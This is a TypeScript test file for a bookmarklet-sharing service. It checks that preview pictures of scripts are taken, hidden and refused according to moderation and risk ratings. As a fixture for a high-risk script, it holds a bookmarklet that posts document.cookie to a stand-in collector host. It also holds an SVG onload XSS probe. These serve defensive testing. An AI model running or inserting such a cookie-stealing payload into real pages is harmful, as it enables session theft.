import { randomUUID } from "node:crypto";
import { PICTURE_VERSION } from "@scriptorium/script-picture/picture-version";
import { createPictureStore } from "@scriptorium/supabase/canary-worker/picture-store";
import { takePictures } from "@scriptorium/supabase/canary-worker/take-pictures";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { drain, emptyQueue, samples } from "../support/analysis.ts";
import { forgetRates, newcomer, openFixture } from "../support/fixture.ts";
import { type SavedScript, save } from "../support/save.ts";

const fixture = openFixture();
const { sql, people } = fixture;
const author = await newcomer(fixture, "Petra Picture");
const store = createPictureStore({ url: fixture.backend.url, serviceRoleKey: fixture.backend.serviceRoleKey });
afterAll(() => fixture.close());
beforeEach(async () => {
	await emptyQueue(fixture);
	await forgetRates(fixture);
	// Scripts that other tests have saved wait no longer.
	await sql`
		insert into private.script_pictures (version_id, picture_version, state)
		select latest_version_id, ${PICTURE_VERSION}, 'none' from public.bookmarklets where latest_version_id is not null
		on conflict (version_id) do update set state = 'none', picture_version = ${PICTURE_VERSION}`;
});

/** The head of a WebP file, whose rest nobody decodes here. */
const webp = (bytes = 100): string =>
	Buffer.concat([Buffer.from("RIFF\0\0\0\0WEBPVP8 ", "latin1"), Buffer.alloc(bytes - 16)]).toString("base64");

/** Works off all waiting scripts with a browser that sees this. */
const work = (picture: string | null) =>
	takePictures({
		store,
		signal: new AbortController().signal,
		take: async () => picture,
	});
const saveRated = async (changes: Parameters<typeof save>[1] = {}): Promise<SavedScript> => {
	const saved = await save(author, { p_code: `${samples.harmless}//${randomUUID()}`, ...changes });
	await drain(fixture);
	return saved;
};
/** What a visitor sees: the hash, the file at its address, and what lists say. */
async function seen(id: string) {
	const { data: hash } = await people.anon.hub.rpc("script_picture", { p_id: id });
	const { data: files } = await people.anon.hub.rpc("get_script_picture", { p_id: id, p_hash: hash ?? "" });
	const [card] = await sql<{ reach: { picture?: string } | null }[]>`
		select reach from private.script_cards where id = ${id}`;
	return { hash, file: files?.[0]?.picture ?? null, inLists: card?.reach?.picture ?? null };
}
const NONE = { hash: "", file: null, inLists: null };

describe("a picture", () => {
	test("is taken once of a published script that is rated, and is seen by everybody", async () => {
		const saved = await save(author, { p_code: `${samples.harmless}//${randomUUID()}` });
		expect(await work(webp())).toEqual({ ok: true, value: { done: 0, pictures: 0 } });
		await drain(fixture);
		expect(await work(webp())).toEqual({ ok: true, value: { done: 1, pictures: 1 } });
		expect(await work(webp())).toEqual({ ok: true, value: { done: 0, pictures: 0 } });
		const { hash, file, inLists } = await seen(saved.id);
		expect(hash).toMatch(/^[0-9a-f]{32}$/);
		expect([file, inLists]).toEqual([webp(), hash]);
		expect((await people.anon.hub.rpc("get_script_picture", { p_id: saved.id, p_hash: "0".repeat(32) })).data).toEqual(
			[],
		);
	});

	test("is none when nothing can be seen of the script, which is asked once", async () => {
		const saved = await saveRated();
		expect(await work(null)).toEqual({ ok: true, value: { done: 1, pictures: 0 } });
		expect(await work(webp())).toMatchObject({ value: { done: 0 } });
		expect(await seen(saved.id)).toEqual(NONE);
	});

	test("is not taken of a draft, of a script that is rated High, and of one that is not rated", async () => {
		await saveRated({ p_publish: false });
		await saveRated({
			p_code: `javascript:fetch('https://collector.example/in', { method: 'POST', body: document.cookie })`,
		});
		await sql`update public.bookmarklets set risk_level = 'unrated' where id = ${(await saveRated()).id}`;
		expect(await work(webp())).toMatchObject({ value: { done: 0 } });
	});

	test("vanishes when the script is removed, hidden or rated High, and with a new version", async () => {
		const saved = await saveRated();
		await work(webp());
		const { hash } = await seen(saved.id);
		const gone = async (change: () => Promise<unknown>, back: () => Promise<unknown>) => {
			await change();
			expect(await seen(saved.id)).toEqual(NONE);
			expect((await people.owner.hub.rpc("get_script_picture", { p_id: saved.id, p_hash: hash ?? "" })).data).toEqual(
				[],
			);
			await back();
			expect(await seen(saved.id)).toMatchObject({ hash });
		};
		const set = (column: string, value: unknown) => () =>
			sql`update public.bookmarklets set ${sql({ [column]: value })} where id = ${saved.id}`;
		await gone(set("moderation_status", "removed"), set("moderation_status", "none"));
		await gone(set("moderation_status", "pending"), set("moderation_status", "approved"));
		await gone(set("is_published", false), set("is_published", true));
		await gone(set("risk_level", "red"), set("risk_level", "amber"));
		await save(author, {
			p_id: saved.id,
			p_base_version_id: saved.version_id,
			p_code: `${samples.harmless}//${randomUUID()}`,
		});
		await drain(fixture);
		expect(await seen(saved.id)).toEqual(NONE);
		expect(await work(webp(200))).toMatchObject({ value: { pictures: 1 } });
		expect((await seen(saved.id)).file).toBe(webp(200));
	});

	test("is claimed again when its worker was killed, at most three times", async () => {
		const saved = await saveRated();
		for (let attempt = 1; attempt <= 3; attempt += 1) {
			expect(await store.claim()).toMatchObject({ value: { versionId: saved.version_id } });
			expect(await store.claim()).toMatchObject({ value: null });
			await sql`update private.script_pictures set started_at = now() - interval '121 seconds' where version_id = ${saved.version_id}`;
		}
		expect(await store.claim()).toMatchObject({ value: null });
	});

	test.each([
		["too large", webp(30_721)],
		["not a WebP file", Buffer.from("<svg onload=alert(1)>").toString("base64")],
	])("is refused when it is %s", async (_what, picture) => {
		const saved = await saveRated();
		expect(await work(picture)).toMatchObject({ ok: false, error: { code: "database_unreachable" } });
		expect(await seen(saved.id)).toEqual(NONE);
	});

	test("is asked for and recorded by the service role alone", async () => {
		for (const { hub } of Object.values(people)) {
			const claimed = await hub.rpc("claim_script_picture", { p_picture_version: PICTURE_VERSION });
			expect(claimed.error?.code).toBe("42501");
			const args = { p_version_id: randomUUID(), p_picture_version: PICTURE_VERSION };
			expect((await hub.rpc("record_script_picture", args)).error?.code).toBe("42501");
		}
	});
});
